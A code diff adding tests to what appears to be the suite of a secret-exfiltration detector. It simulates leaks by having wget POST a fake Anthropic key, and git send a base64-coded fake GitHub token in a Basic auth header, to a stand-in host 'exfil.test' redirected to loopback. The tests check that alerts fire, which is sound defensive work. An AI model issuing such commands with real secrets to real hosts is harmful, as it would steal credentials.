@@ -6,6 +6,7 @@ inside it, a loopback HTTPS server that proves the bytes arrived, then the alert
 Names reach 127.0.0.1 inside the client only (its resolver is replaced), so SNI is the name.
 """
 
+import base64
 import json
 import re
 import shutil
@@ -187,3 +188,54 @@ def test_check_names_the_stacks_it_cannot_hook(agent_binary, cgroup):
     assert re.search(r"TLS Java JSSE:.*not hookable", text), text
     assert re.search(r"TLS rustls:.*not hookable", text), text
     assert re.search(r"TLS in executables:\s+yes", text), text
+
+
+def _with_hosts(scratch: Path, name: str, argv: list[str]) -> list[str]:
+    """argv run with `name` -> 127.0.0.1 in a private /etc/hosts (its own mount namespace: the
+    host's file is never touched), for clients that have no --resolve."""
+    hosts = scratch / "hosts"
+    hosts.write_text(f"127.0.0.1 localhost {name}\n")
+    script = 'mount --bind "$0" /etc/hosts && exec "$@"'
+    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, str(hosts),
+            *argv]
+
+
+def test_wget_over_gnutls_alerts(agent, clients, https_server, pki, registry, scratch):
+    # Debian's wget speaks TLS through GnuTLS (gnutls_record_send), not OpenSSL.
+    key = registry.new("anthropic")
+    body = scratch / "wget-body.json"
+    body.write_text(json.dumps({"key": key}))
+    result = clients.run(_with_hosts(scratch, "exfil.test", [
+        "wget", "-q", "-O", "/dev/null", "--no-proxy", "--tries=1", "--timeout=15",
+        f"--ca-certificate={pki.ca}", f"--post-file={body}",
+        https_server.url("exfil.test", "/v1/messages")]))
+    [req] = https_server.wait_for_requests(1)
+    assert req.sni == "exfil.test" and req.body_sha256 == sha256(body.read_bytes())
+
+    alerts = agent.wait_for_alerts(_by(provider="anthropic", comm="wget"), timeout=ALERT_TIMEOUT)
+    assert alerts, f"no alert for wget (GnuTLS)\n{agent.diagnostics()}"
+    assert alerts[0]["destination"]["host"] == "exfil.test"
+    assert alerts[0]["secret"]["found_in"] == "tls-write", alerts[0]["secret"]
+
+
+def test_git_over_https_with_a_token_in_basic_auth_alerts(
+        agent, clients, https_server, pki, registry, scratch):
+    # What actions/checkout leaves in .git/config: an extraheader with Basic auth of
+    # "x-access-token:<token>", base64-coded. git's https helper uses libcurl-gnutls here.
+    token = registry.new("github-pat")
+    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
+    result = clients.run([
+        "git", "-c", f"http.extraHeader=Authorization: Basic {basic}",
+        "-c", f"http.sslCAInfo={pki.ca}",
+        "-c", f"http.curloptResolve=exfil.test:{https_server.port}:127.0.0.1",
+        "-c", "http.proxy=", "ls-remote",
+        https_server.url("exfil.test", "/acme/app.git")], check=False,
+        env={"GIT_TERMINAL_PROMPT": "0", "HOME": str(scratch)})
+    reqs = https_server.wait_for_requests(1)
+    assert reqs[0].sni == "exfil.test", result.stderr
+
+    alerts = agent.wait_for_alerts(_by(provider="github", host="exfil.test"),
+                                   timeout=ALERT_TIMEOUT)
+    assert alerts, f"no alert for git's Basic auth token\n{agent.diagnostics()}"
+    assert alerts[0]["process"]["comm"].startswith("git"), alerts[0]["process"]
+    assert "base64" in alerts[0]["evidence"]["decoding"], alerts[0]["evidence"]
